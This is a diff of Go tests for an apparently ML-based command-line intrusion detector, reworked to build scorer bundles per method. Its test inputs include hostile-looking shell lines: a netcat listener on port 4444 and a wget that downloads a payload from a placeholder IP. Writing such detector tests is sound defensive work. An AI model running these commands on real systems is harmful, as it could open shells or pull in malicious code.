@@ -7,16 +7,20 @@ import (
 	"sync"
 	"testing"
 
+	"clmids/internal/commercial"
 	"clmids/internal/core"
 	"clmids/internal/corpus"
 )
 
-// fixture trains and saves a tiny pipeline plus a baseline log once,
-// shared across the command tests.
+// fixture trains a tiny pipeline and writes its training log once, shared
+// across the command tests; bundles holds one scorer bundle per method,
+// built from them on first use.
 type fixture struct {
 	dir      string
-	modelDir string
 	dataPath string
+	pl       *core.Pipeline
+	train    *corpus.Dataset
+	bundles  map[string]string // method → bundle directory
 }
 
 var (
@@ -35,101 +39,88 @@ func TestMain(m *testing.M) {
 	os.Exit(code)
 }
 
-func buildFixture(t *testing.T) (modelDir, dataPath string) {
+// bundleFor returns a bundle serving method, built the way clmtrain -bundle
+// builds one (commercial-IDS labels over the training log), plus the path
+// of that training log.
+func bundleFor(t *testing.T, method string) (bundleDir, dataPath string) {
 	t.Helper()
 	fixOnce.Do(func() {
-		dir, err := os.MkdirTemp("", "clmdetect-fixture-")
-		if err != nil {
-			fixErr = err
+		fix.bundles = map[string]string{}
+		if fix.dir, fixErr = os.MkdirTemp("", "clmdetect-fixture-"); fixErr != nil {
 			return
 		}
-		fix.dir = dir
 		ccfg := corpus.DefaultConfig()
 		ccfg.TrainLines = 500
 		ccfg.TestLines = 50
 		ccfg.IntrusionRate = 0.2
-		train, _, err := corpus.Generate(ccfg)
-		if err != nil {
-			fixErr = err
+		if fix.train, _, fixErr = corpus.Generate(ccfg); fixErr != nil {
 			return
 		}
-		fix.dataPath = filepath.Join(dir, "train.jsonl")
+		fix.dataPath = filepath.Join(fix.dir, "train.jsonl")
 		f, err := os.Create(fix.dataPath)
 		if err != nil {
 			fixErr = err
 			return
 		}
-		if fixErr = train.WriteJSONL(f); fixErr != nil {
+		defer f.Close()
+		if fixErr = fix.train.WriteJSONL(f); fixErr != nil {
 			return
 		}
-		f.Close()
-
 		pcfg := core.TinyExperiment().Pipeline
 		pcfg.Pretrain.Epochs = 1
-		pl, err := core.BuildPipeline(train.Lines(), pcfg)
-		if err != nil {
-			fixErr = err
-			return
-		}
-		fix.modelDir = filepath.Join(dir, "model")
-		fixErr = pl.SaveDir(fix.modelDir)
+		fix.pl, fixErr = core.BuildPipeline(fix.train.Lines(), pcfg)
 	})
 	if fixErr != nil {
 		t.Fatalf("fixture: %v", fixErr)
 	}
-	return fix.modelDir, fix.dataPath
+	if dir, ok := fix.bundles[method]; ok {
+		return dir, fix.dataPath
+	}
+	lines := fix.train.Lines()
+	labels, err := commercial.Default().Label(lines, commercial.DefaultNoise(), 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bs, err := core.BuildScorerFull(fix.pl, core.ScorerConfig{Method: method, Epochs: 3, Seed: 1}, lines, labels)
+	if err != nil {
+		t.Fatalf("%s scorer: %v", method, err)
+	}
+	dir := filepath.Join(fix.dir, "bundle-"+method)
+	if _, err := core.SaveBundle(dir, fix.pl, bs, "detect-test-"+method); err != nil {
+		t.Fatal(err)
+	}
+	fix.bundles[method] = dir
+	return dir, fix.dataPath
 }
 
 func TestDetectMethods(t *testing.T) {
-	modelDir, dataPath := buildFixture(t)
 	input := filepath.Join(t.TempDir(), "lines.txt")
 	err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644)
 	if err != nil {
 		t.Fatal(err)
 	}
 	for _, method := range []string{"classifier", "retrieval", "pca"} {
-		err := run([]string{
-			"-model", modelDir, "-baseline", dataPath,
-			"-method", method, "-input", input, "-top", "2", "-epochs", "3",
-		})
-		if err != nil {
+		bundleDir, _ := bundleFor(t, method)
+		if err := run([]string{"-bundle", bundleDir, "-input", input, "-top", "2"}); err != nil {
 			t.Errorf("method %s: %v", method, err)
 		}
 	}
 }
 
-func TestDetectRejectsUnknownMethod(t *testing.T) {
-	// The typo is rejected up front — no model directory is even opened, so
-	// a bogus -model path never gets the chance to mask the method error.
-	err := run([]string{"-model", "/nonexistent", "-baseline", "/nonexistent", "-method", "nope", "-input", "-"})
-	if err == nil || !strings.Contains(err.Error(), "unknown method") ||
-		!strings.Contains(err.Error(), "retrieval") {
-		t.Fatalf("unexpected error: %v", err)
+// TestDetectRequiresBundle: a bundle is the only way to get a scorer, and
+// its absence fails up front with an error that says how to make one.
+func TestDetectRequiresBundle(t *testing.T) {
+	err := run([]string{"-input", "-"})
+	if err == nil || !strings.Contains(err.Error(), "-bundle") ||
+		!strings.Contains(err.Error(), "clmtrain -bundle") {
+		t.Fatalf("missing -bundle: %v", err)
 	}
 }
 
-// TestDetectFromBundle: batch and follow mode cold-start from a bundle —
-// no -baseline flag, no tuning — and batch scores match the bundle's
-// scorer exactly.
+// TestDetectFromBundle: batch and follow mode cold-start from a bundle, and
+// a missing bundle directory is an error.
 func TestDetectFromBundle(t *testing.T) {
-	modelDir, dataPath := buildFixture(t)
-	pl, err := core.LoadPipeline(modelDir)
-	if err != nil {
-		t.Fatal(err)
-	}
-	baseLines, err := readBaseline(dataPath)
-	if err != nil {
-		t.Fatal(err)
-	}
-	bs, err := core.BuildScorerFull(pl, core.ScorerConfig{Method: "pca"}, baseLines, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	bundleDir := t.TempDir()
-	if _, err := core.SaveBundle(bundleDir, pl, bs, "detect-test"); err != nil {
-		t.Fatal(err)
-	}
-
+	bundleDir, _ := bundleFor(t, "pca")
 	input := filepath.Join(t.TempDir(), "lines.txt")
 	if err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644); err != nil {
 		t.Fatal(err)
@@ -198,13 +189,11 @@ func TestReadInputLargeJSONL(t *testing.T) {
 // TestFollowMode streams both plain-text and JSONL input through the
 // session-aware detector.
 func TestFollowMode(t *testing.T) {
-	modelDir, dataPath := buildFixture(t)
-	dir := t.TempDir()
-
-	plain := filepath.Join(dir, "tail.txt")
+	pcaBundle, dataPath := bundleFor(t, "pca")
+	plain := filepath.Join(t.TempDir(), "tail.txt")
 	os.WriteFile(plain, []byte("whoami\nwget -c http://203.0.113.9/7e31 -o python\npython\n"), 0o644)
 	err := run([]string{
-		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
+		"-bundle", pcaBundle,
 		"-follow", "-input", plain, "-context", "3", "-aggregation", "max",
 	})
 	if err != nil {
@@ -212,8 +201,9 @@ func TestFollowMode(t *testing.T) {
 	}
 
 	// JSONL input carries its own users and timestamps.
+	retrievalBundle, _ := bundleFor(t, "retrieval")
 	err = run([]string{
-		"-model", modelDir, "-baseline", dataPath, "-method", "retrieval",
+		"-bundle", retrievalBundle,
 		"-follow", "-input", dataPath, "-session-threshold", "0.5",
 	})
 	if err != nil {
@@ -222,9 +212,9 @@ func TestFollowMode(t *testing.T) {
 }
 
 func TestFollowRejectsBadAggregation(t *testing.T) {
-	modelDir, dataPath := buildFixture(t)
+	bundleDir, dataPath := bundleFor(t, "pca")
 	err := run([]string{
-		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
+		"-bundle", bundleDir,
 		"-follow", "-aggregation", "bogus", "-input", dataPath,
 	})
 	if err == nil || !strings.Contains(err.Error(), "unknown aggregation") {
